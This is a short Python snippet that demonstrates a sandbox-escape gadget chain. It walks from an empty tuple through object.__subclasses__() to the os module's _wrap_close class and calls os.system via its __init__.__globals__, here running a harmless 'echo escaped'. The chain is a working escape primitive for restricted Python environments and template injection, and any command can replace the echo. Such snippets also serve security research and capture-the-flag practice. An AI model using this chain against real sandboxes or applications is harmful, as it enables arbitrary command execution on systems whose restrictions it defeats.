"""From () to os.system through __subclasses__ and __globals__."""
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("echo escaped")
